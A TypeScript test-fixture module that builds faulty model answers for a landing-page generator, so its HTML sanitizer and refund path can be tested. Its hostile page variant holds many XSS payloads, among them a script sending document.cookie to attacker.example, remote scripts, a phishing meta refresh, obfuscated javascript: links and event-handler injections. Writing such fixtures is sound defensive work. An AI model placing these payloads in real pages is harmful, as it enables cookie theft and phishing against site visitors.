import { escapeHtml } from '../http-replies.ts';
import type { LandingFields } from './prompt-fields.ts';

/**
 * The answers a real model can give that the generator must not trust, built on demand by the stand-in's test modes
 * (`POST /_stand-in/mode`) so the sanitizer and the refund path run locally, not only in unit tests. Each one is
 * built here from the well-behaved page; nothing is read from test/, so the stand-in stays a piece of the local cloud.
 */

/** Where the hostile page points: a reserved name (RFC 2606) that never resolves. */
const attacker = 'https://attacker.example';

/** Goes into <head>: a base URL, a meta refresh, inline and remote script, a stylesheet with script in it. */
const hostileHead = `
  <base href="${attacker}/">
  <meta http-equiv="refresh" content="5; url=${attacker}/phish">
  <meta http-equiv="Set-Cookie" content="session=stolen">
  <script>fetch('${attacker}/steal?c=' + encodeURIComponent(document.cookie));</script>
  <script src="${attacker}/tracker.js"></script>
  <link rel="stylesheet" href="${attacker}/theme.css">
  <style>@import url("${attacker}/more.css"); .hero { background-image: url("javascript:alert('css')"); }</style>`;

/** A section of things a page must never carry, dressed as ordinary content so the sanitized page still reads well. */
const hostileSection = (name: string): string => `
    <section id="updates" aria-labelledby="updates-title" onmouseover="alert('section')">
      <div class="container">
        <h2 id="updates-title">Stay in touch with ${name}</h2>
        <p class="muted">Get our news first.<img src="${attacker}/pixel.png" alt="" width="1" height="1" onerror="alert('img')"></p>
        <form action="${attacker}/collect" method="post">
          <label>Email <input type="email" name="email" onfocus="alert('focus')" autofocus></label>
          <button type="submit" formaction="javascript:alert('button')">Sign up</button>
        </form>
        <p>
          <a href="javascript:alert(document.domain)">Read our story</a> ·
          <a href="JaVaScRiPt:alert('case')">Our team</a> ·
          <a href="&#106;avascript:alert('entity')">Careers</a> ·
          <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Brochure</a>
        </p>
        <div style="background: url(javascript:alert('style'))" onclick="alert('div')">Customers love us.</div>
        <svg width="24" height="24" onload="alert('svg')"><a href="javascript:alert('svg-link')"><circle cx="12" cy="12" r="10"/></a></svg>
        <iframe src="${attacker}/frame" title="Our video"></iframe>
        <iframe srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;" title="Testimonials"></iframe>
        <object data="${attacker}/player.swf" type="application/x-shockwave-flash"></object>
        <embed src="${attacker}/embed.swf" type="application/x-shockwave-flash">
        <script>document.write('<img src=x onerror=alert(1)>');</script>
      </div>
    </section>`;

/**
 * The good page with every kind of active content the sanitizer must remove (script, on* handlers, javascript: and
 * data:text/html links, iframe, object, embed, base, meta refresh, a form posting elsewhere), around content that is
 * fine: what is left after sanitizing still shows the company and its sections.
 */
export const hostileVariant = (page: string, fields: LandingFields): string =>
  page
    .replace('<meta charset="utf-8">', `<meta charset="utf-8">${hostileHead}`)
    .replace('<body>', '<body onload="alert(\'body\')">')
    .replace('<a class="button button-light" href="#contact">', '<a class="button button-light" href="javascript:alert(\'cta\')" onclick="alert(\'click\')">')
    .replace('  </main>', `${hostileSection(escapeHtml(fields.companyName))}\n  </main>`);

/**
 * The page cut off half-way through its body, as a model stops at its token limit: it starts like HTML (`<html`,
 * `<body`) and so only the stop reason `max_tokens` tells the caller it is unusable.
 */
export const truncatedVariant = (page: string): string => {
  const body = page.indexOf('<body');
  const end = page.lastIndexOf('</body>');
  return page.slice(0, body + Math.floor((end - body) / 2));
};

/** A polite answer in prose, with no HTML at all: what a model says when it talks about the page instead. */
export const proseAnswer = (fields: LandingFields): string =>
  [
    `Here is a landing page concept for ${fields.companyName}.`,
    '',
    `Headline: ${fields.companyName}, made for ${fields.businessType}.`,
    `Mission: ${fields.missionStatement}`,
    `The problem: ${fields.problemSolved}`,
    '',
    `I would use a ${fields.colorTheme} colour palette, a bold hero with a single call to action, three feature cards`,
    'and a short closing section. Let me know if you would like me to write the HTML for it.',
  ].join('\n');
